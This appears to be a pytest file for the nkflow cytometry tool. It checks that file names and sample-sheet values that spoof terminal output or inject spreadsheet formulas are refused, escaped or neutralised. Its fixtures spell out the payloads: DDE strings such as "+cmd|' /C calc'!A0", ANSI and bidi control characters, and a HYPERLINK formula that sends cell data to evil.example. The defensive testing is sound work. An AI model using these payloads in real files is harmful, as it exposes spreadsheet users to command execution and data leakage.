"""Hostile names and sheet values: terminal spoofing and spreadsheet formula injection.

Recipes: a file name whose newline makes a second line ``nkflow: OK all files passed``;
ANSI/CSI and bidi-override characters in names; sample ids such as ``=HYPERLINK(...)``,
``+cmd|...``, ``@SUM(...)`` or ``-2+3`` that a spreadsheet opening nkflow's CSV tables
would run.
"""

from __future__ import annotations

import logging
import os
import re
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import nkflow.io as nio
from nkflow.cli import main
from nkflow.exceptions import MetadataError, NkflowWarning
from nkflow.io.text_safety import escape_frame, escape_text, formula_risk, neutralise_formula

STAINS = {"B1-A": "CD56 BV421", "B2-A": "CD16 FITC", "B3-A": "CD69 PE", "R1-A": "CD3 APC"}
HEADER = "file,sample_id,donor,tissue,timepoint,stimulation,role,species,batch"

# (value as written, escaped form that must be visible)
HOSTILE_NAMES = [
    ("x.fcs\nnkflow: OK all files passed", "x.fcs\\nnkflow: OK all files passed"),
    ("x\rnkflow: OK all files passed", "x\\rnkflow: OK all files passed"),
    ("red\x1b[31mX\x1b[0m", "red\\x1b[31mX\\x1b[0m"),
    ("clear\x1b[2J\x1b[H", "clear\\x1b[2J\\x1b[H"),
    ("c1\x9b31m", "c1\\x9b31m"),
    ("bidi\u202etxt.exe", "bidi\\u202etxt.exe"),
    ("iso\u2066late\u2069", "iso\\u2066late\\u2069"),
    ("tab\there", "tab\\there"),
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
]
NUMBERS = ["-1.5", "+2", "-3", "1e-3", "-.5", "+4.0E+2", "-"]
RNG = np.random.default_rng(7)


def _fcs(path: Path, stains: dict[str, str] = STAINS) -> Path:
    channels = ["FSC-A", "SSC-A", *stains, "Time"]
    data = RNG.uniform(0, 1000, size=(40, len(channels))).astype(np.float32)
    return nio.write_fcs(path, data, channels, markers=[None, None, *stains.values(), None])


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _sheet(folder: Path, rows: list[list[str]]) -> Path:
    """A sheet with one FCS file per row; each row gives sample_id and then donor."""
    lines = [HEADER]
    for i, (sid, donor) in enumerate(rows):
        _fcs(folder / f"f{i}.fcs")
        lines.append(f"f{i}.fcs,{_csv_cell(sid)},{_csv_cell(donor)},liver,pre,,,human,b1")
    path = folder / "metadata.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _no_spoofed_lines(text: str) -> None:
    for line in text.splitlines():
        assert not line.startswith("nkflow: OK"), text
    for raw in ("\x1b", "\r", "\x9b", "\u202e", "\u2066"):
        assert raw not in text, (raw, text)


# ----------------------------------------------------------------- escape_text


@pytest.mark.parametrize(("raw", "shown"), HOSTILE_NAMES, ids=lambda v: ascii(v)[:20])
def test_escape_text_makes_controls_visible(raw: str, shown: str) -> None:
    assert escape_text(raw) == shown
    assert escape_text(raw).isprintable()


@pytest.mark.parametrize(
    "plain", ["donor1_liver.fcs", "Dönor ü 中文 CD56", r"C:\data\x.fcs", "a b", "sp\u00a0ace"]
)
def test_escape_text_keeps_printable_text(plain: str) -> None:
    assert escape_text(plain) == plain


def test_escape_text_undecodable_file_name_bytes() -> None:
    name = os.fsdecode(b"bad\xffname.fcs")  # a Linux name that is not UTF-8
    assert escape_text(name) == "bad\\xffname.fcs"


def test_escape_frame_keeps_one_row_per_line() -> None:
    table = pd.DataFrame({"file": ["a\nnkflow: OK", "b"], "n": [1, 2]}, index=["x\ny", "z"])
    text = escape_frame(table).to_string()
    assert len(text.splitlines()) == 3
    _no_spoofed_lines(text)


# ----------------------------------------------------------------- formula_risk


@pytest.mark.parametrize("value", [*FORMULAS, "a\tb", "a\rb", "a\nb", "a\x00b", "a\x85b"])
def test_formula_risk_refuses(value: str) -> None:
    assert formula_risk(value)


@pytest.mark.parametrize(
    "value", [*NUMBERS, "D1", "fmo:CD69", "a-b", "3+4", "x=y", "", "é@", "'=1+1"]
)
def test_formula_risk_accepts(value: str) -> None:
    assert formula_risk(value) == ""


# ----------------------------------------------------------------- the sheet


def test_sheet_refuses_every_formula_cell(tmp_path: Path) -> None:
    rows = [[f, f"D{i}"] for i, f in enumerate(FORMULAS)] + [["ok1", "=cmd()"]]
    sheet = _sheet(tmp_path, rows)
    with pytest.raises(MetadataError) as info:
        nio.read_metadata(sheet)
    problems = info.value.problems
    assert len(problems) == len(FORMULAS) + 1, problems
    for i, value in enumerate(FORMULAS):
        hits = [p for p in problems if p.startswith(f"row {i + 2}, column 'sample_id'")]
        assert len(hits) == 1 and f"value '{value}'" in hits[0], problems
        assert f"starts with '{value[0]}'" in hits[0]
    assert any(p.startswith(f"row {len(FORMULAS) + 2}, column 'donor'") for p in problems)


@pytest.mark.parametrize("number", NUMBERS)
def test_sheet_accepts_numbers(tmp_path: Path, number: str) -> None:
    table = nio.read_metadata(_sheet(tmp_path, [[number, number]]))
    assert table.loc[0, "sample_id"] == number and table.loc[0, "donor"] == number


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("a\tb", "a\\tb"),
        ("a\nnkflow: OK", "a\\nnkflow: OK"),
        ("a\rb", "a\\rb"),
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
    ],
)
def test_sheet_refuses_control_characters(tmp_path: Path, value: str, shown: str) -> None:
    sheet = _sheet(tmp_path, [["s1", value]])
    with pytest.raises(MetadataError) as info:
        nio.read_metadata(sheet)
    (problem,) = info.value.problems
    assert problem.startswith("row 2, column 'donor'")
    assert f"value '{shown}'" in problem and "control character" in problem


def test_sheet_refuses_formula_header(tmp_path: Path) -> None:
    _fcs(tmp_path / "a.fcs")
    sheet = tmp_path / "s.csv"
    sheet.write_text("file,sample_id,=cmd|' /C calc'!A0\na.fcs,s1,x\n")
    with pytest.raises(MetadataError, match=r"header: column name '=cmd"):
        nio.read_metadata(sheet)


def test_sheet_neutralise_option_prefixes_and_warns(tmp_path: Path) -> None:
    rows = [[f, "D1"] for f in FORMULAS] + [["-1.5", "a\tb"]]
    sheet = _sheet(tmp_path, rows)
    with pytest.warns(NkflowWarning, match="prefixed") as record:
        table = nio.read_metadata(sheet, neutralise_formulas=True)
    assert list(table["sample_id"]) == [neutralise_formula(f) for f in FORMULAS] + ["-1.5"]
    assert [f.startswith("'") for f in table["sample_id"]] == [True] * len(FORMULAS) + [False]
    assert table.loc[len(FORMULAS), "donor"] == "'a\tb"
    assert Path(table.loc[0, "path"]) == (tmp_path / "f0.fcs").resolve()
    message = str(record[0].message)
    assert all(f"value '{escape_text(f)}'" in message for f in FORMULAS), message
    assert "a\\tb" in message
    for value in table["sample_id"]:
        assert formula_risk(value) == ""
    # the neutralised table passes the DataFrame screen again (as the pipeline does)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert nio.read_batch(table).sample_ids == list(table["sample_id"])


@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "+cmd|x", "@SUM(1)", "-2+3"])
def test_folder_sample_ids_from_file_names(tmp_path: Path, name: str) -> None:
    _fcs(tmp_path / f"{name}.fcs")
    _fcs(tmp_path / "good.fcs")
    with pytest.raises(MetadataError) as info:
        nio.metadata_from_folder(tmp_path)
    assert len(info.value.problems) == 2  # the file column and the sample id
    assert all(p.startswith(f"file '{name}.fcs'") for p in info.value.problems)
    with pytest.warns(NkflowWarning):
        table = nio.read_batch(tmp_path, neutralise_formulas=True).metadata
    assert set(table["sample_id"]) == {"good", f"'{name}"}


def test_dataframe_metadata_is_screened(tmp_path: Path) -> None:
    frame = pd.DataFrame({"sample_id": ["=1+1"], "path": [str(_fcs(tmp_path / "a.fcs"))]})
    with pytest.raises(MetadataError, match=r"index '0', column 'sample_id': value '=1\+1'"):
        nio.read_batch(frame)


def test_check_report_escapes_neutralised_newline(tmp_path: Path) -> None:
    _fcs(tmp_path / "a.fcs")
    _fcs(tmp_path / "b.fcs")
    frame = pd.DataFrame({"sample_id": ["a\nnkflow: OK all files passed", "b"],
                          "path": [str(tmp_path / "a.fcs"), str(tmp_path / "b.fcs")]})  # fmt: skip
    with pytest.warns(NkflowWarning):
        check = nio.check_batch(frame, neutralise_formulas=True)
    text = check.to_string()
    _no_spoofed_lines(text)
    assert "'a\\nnkflow: OK all files passed" in text


# ----------------------------------------------------------------- the command line


@pytest.fixture(autouse=True)
def _restore_logging():
    """The CLI configures logging for its process; in-process tests must not leak it."""
    saved = {n: (logging.getLogger(n).level, list(logging.getLogger(n).handlers))
             for n in ("nkflow", "py.warnings")}  # fmt: skip
    yield
    logging.captureWarnings(False)
    for name, (level, handlers) in saved.items():
        logging.getLogger(name).setLevel(level)
        logging.getLogger(name).handlers[:] = handlers


def _failed_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("nkflow: FAILED")]


@pytest.mark.parametrize(("raw", "shown"), HOSTILE_NAMES, ids=lambda v: ascii(v)[:20])
def test_inspect_hostile_file_name_is_one_line(tmp_path: Path, raw: str, shown: str) -> None:
    bad = tmp_path / f"{raw}.fcs"
    bad.write_bytes(b"not an FCS file" * 4)
    result = CliRunner().invoke(main, ["inspect", str(bad)])
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1, repr(result.stderr)
    (line,) = _failed_lines(result.stderr)
    assert f"{shown}.fcs" in line
    _no_spoofed_lines(result.stdout + result.stderr)


@pytest.mark.parametrize(("raw", "shown"), HOSTILE_NAMES, ids=lambda v: ascii(v)[:20])
def test_check_hostile_file_name_in_folder(tmp_path: Path, raw: str, shown: str) -> None:
    _fcs(tmp_path / "good.fcs")
    (tmp_path / f"{raw}.fcs").write_bytes(b"not an FCS file" * 4)
    result = CliRunner().invoke(main, ["check", str(tmp_path)])
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1, repr(result.stderr)
    (line,) = _failed_lines(result.stderr)
    assert shown in line
    _no_spoofed_lines(result.stdout + result.stderr)


def test_check_refuses_formula_sample_ids(tmp_path: Path) -> None:
    sheet = _sheet(tmp_path, [[f, "D1"] for f in FORMULAS] + [["-1.5", "D2"]])
    result = CliRunner().invoke(main, ["check", str(sheet)])
    assert result.exit_code == 1
    (line,) = _failed_lines(result.stderr)
    assert f"{len(FORMULAS)} problem(s)" in line
    assert all(f"value '{f}'" in line for f in FORMULAS)
    assert "'-1.5'" not in line


def test_sheet_naming_a_hostile_file_is_refused_on_one_line(tmp_path: Path) -> None:
    name = "x.fcs\nnkflow: OK all files passed"
    _fcs(tmp_path / name)
    sheet = tmp_path / "metadata.csv"
    sheet.write_text(f"{HEADER}\n{_csv_cell(name)},s1,D1,liver,pre,,,human,b1\n")
    result = CliRunner().invoke(main, ["check", str(sheet)])
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1
    assert re.search(r"column 'file': value 'x\.fcs\\nnkflow: OK", result.stderr)
    _no_spoofed_lines(result.stdout + result.stderr)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", NkflowWarning)
        table = nio.read_metadata(sheet, neutralise_formulas=True)
    assert Path(table.loc[0, "path"]).is_file()  # the path comes from the real name


def test_config_key_neutralises_for_the_pipeline(tmp_path: Path) -> None:
    from nkflow.config import config_to_toml, load_config
    from nkflow.pipeline.state import RunState

    folder = tmp_path / "batch"
    folder.mkdir()
    _fcs(folder / "=HYPERLINK(1).fcs")
    _fcs(folder / "good.fcs")
    with pytest.raises(MetadataError, match="HYPERLINK"):
        RunState(folder, tmp_path / "out", load_config(None), None)
    toml = tmp_path / "run.toml"
    toml.write_text("[metadata]\nneutralise_formulas = true\n")
    config = load_config(toml)
    assert "[metadata]\nneutralise_formulas = true" in config_to_toml(config)
    with pytest.warns(NkflowWarning, match="HYPERLINK"):
        state = RunState(folder, tmp_path / "out", config, None)
    assert sorted(state.meta["sample_id"]) == ["'=HYPERLINK(1)", "good"]
    assert not state.check_consistency()["fatal"].any()


def test_cli_log_lines_are_escaped() -> None:
    from nkflow._console import _EscapingFormatter

    args = ("a\nnkflow: OK", "\x1b[2J")
    record = logging.LogRecord(
        "nkflow.pipeline", logging.ERROR, __file__, 1, "sample %s failed: %s", args, None
    )
    line = _EscapingFormatter("%(levelname)s %(name)s: %(message)s").format(record)
    assert line == "ERROR nkflow.pipeline: sample a\\nnkflow: OK failed: \\x1b[2J"


def test_fcs_keyword_text_is_neutralised_in_csv(tmp_path: Path) -> None:
    """``$CYT = '=cmd|calc'`` reached tables/consistency.csv and ``inspect --csv`` as is."""
    channels = ["FSC-A", "SSC-A", *STAINS, "Time"]
    data = RNG.uniform(0, 1000, size=(40, len(channels))).astype(np.float32)
    path = nio.write_fcs(
        tmp_path / "a.fcs", data, channels, markers=[None, None, *STAINS.values(), None],
        keywords={"$CYT": "=cmd|calc"},
    )  # fmt: skip
    out = tmp_path / "insp.csv"
    result = CliRunner().invoke(main, ["inspect", str(path), "--csv", str(out)])
    assert result.exit_code == 0, result.output
    table = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert table["instrument"].tolist() == ["'=cmd|calc"]


def test_write_table_neutralises_only_formula_text(tmp_path: Path) -> None:
    from nkflow.io.write import write_table

    table = pd.DataFrame(
        {"text": ["=1+2", "-2", "-", "CD56-", "@x", "'=safe"], "value": [-1.5, 2, 3, 4, 5, 6]}
    )
    table["=col"] = "+cmd"
    write_table(table, tmp_path / "t", formats=("csv", "parquet"))
    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert back.columns.tolist() == ["text", "value", "'=col"]
    assert back["text"].tolist() == ["'=1+2", "-2", "-", "CD56-", "'@x", "'=safe"]
    assert back["value"].tolist()[0] == "-1.5" and set(back["'=col"]) == {"'+cmd"}
    parquet = pd.read_parquet(tmp_path / "t.parquet")  # the data as read, for programs
    assert parquet["text"].iloc[0] == "=1+2"
